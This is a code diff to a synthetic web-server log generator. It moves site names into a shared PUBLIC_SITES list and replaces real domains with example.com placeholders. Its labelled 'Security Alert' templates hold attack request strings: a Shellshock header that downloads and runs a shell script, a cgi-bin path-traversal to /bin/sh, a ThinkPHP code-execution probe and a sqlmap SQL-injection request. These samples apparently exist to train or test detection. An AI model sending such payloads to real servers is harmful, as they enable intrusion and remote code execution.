@@ -5,6 +5,7 @@
  */
 import type { Rng } from '../../random.ts';
 import type { LogFamily, SystemSlot } from '../family.ts';
+import { PUBLIC_SITES } from '../slots.ts';
 
 const hex = (rng: Rng, length: number): string => {
   let out = '';
@@ -20,12 +21,11 @@ const clf: SystemSlot = (rng, time) => {
   const zone = rng.pick(['+0000', '+0000', '+0100', '+0200', '-0500', '-0800', '+0530', '+0800']);
   return `${two(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:${date.toISOString().slice(11, 19)} ${zone}`;
 };
-const SITES = ['example.com', 'www.example.com', 'shop.example.net', 'api.acme.io', 'blog.example.org', 'intranet.corp.local', 'app.example.de', 'static.example.com', 'portal.campus.edu', 'wiki.lab.local', 'status.acme.io', 'git.example.com'];
-const site: SystemSlot = (rng) => rng.pick(SITES);
+const site: SystemSlot = (rng) => rng.pick(PUBLIC_SITES);
 const referer: SystemSlot = (rng) =>
   rng.int(0, 2) === 0
     ? '-'
-    : rng.pick([`https://${rng.pick(SITES)}/`, `https://${rng.pick(SITES)}/${rng.pick(['products', 'blog', 'search', 'cart', 'login', 'docs'])}`, 'https://www.google.com/', 'https://www.bing.com/', 'https://t.co/' + hex(rng, 10), 'android-app://com.google.android.gm/']);
+    : rng.pick([`https://${rng.pick(PUBLIC_SITES)}/`, `https://${rng.pick(PUBLIC_SITES)}/${rng.pick(['products', 'blog', 'search', 'cart', 'login', 'docs'])}`, 'https://search.example.com/', 'https://www.example.org/', 'https://go.example.net/' + hex(rng, 10), 'android-app://com.example.mail/']);
 const staticPath: SystemSlot = (rng) =>
   rng.pick([
     `/static/css/main.${hex(rng, 8)}.css`,
@@ -38,7 +38,7 @@ const staticPath: SystemSlot = (rng) =>
   ]);
 const botUA: SystemSlot = (rng) =>
   rng.pick([
-    'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
+    'Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example.com/)',
     'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
     'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
     'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
@@ -67,7 +67,7 @@ const ngxPid: SystemSlot = (rng) => {
   return `${pid}#${rng.int(0, 2) ? pid : 0}`;
 };
 const cid: SystemSlot = (rng) => String(rng.int(1, 9999999));
-const serverName: SystemSlot = (rng) => rng.pick([...SITES, '_', 'localhost', 'default_server']);
+const serverName: SystemSlot = (rng) => rng.pick([...PUBLIC_SITES, '_', 'localhost', 'default_server']);
 const limitZone: SystemSlot = (rng) => rng.pick(['one', 'perip', 'req_limit_per_ip', 'api', 'login', 'mylimit', 'addr']);
 const plusUA: SystemSlot = (rng) =>
   rng.pick([
@@ -142,7 +142,7 @@ export const APACHE_ACCESS: LogFamily = {
     { label: 'Security Alert', text: '{ip} - - [{clf}] "GET / HTTP/1.1" 200 {bytes} "-" "() {{ :; }}; /bin/bash -c \\"wget http://{ip}/x.sh -O /tmp/x.sh; sh /tmp/x.sh\\""' },
     { label: 'Security Alert', text: '{ip} - - [{clf}] "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1" 400 {bytes} "-" "-"', weight: 2 },
     { label: 'Security Alert', text: '{ip} - - [{clf}] "GET /index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP HTTP/1.1" 404 {bytes} "-" "{userAgent}"' },
-    { label: 'Security Alert', text: '{ip} - - [{clf}] "CONNECT www.google.com:443 HTTP/1.1" 405 {bytes} "-" "-"' },
+    { label: 'Security Alert', text: '{ip} - - [{clf}] "CONNECT www.example.com:443 HTTP/1.1" 405 {bytes} "-" "-"' },
     { label: 'Security Alert', text: '{ip} - - [{clf}] "GET /products.php?id=1%27%20OR%20%271%27=%271 HTTP/1.1" 403 {bytes} "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"' },
   ],
 };
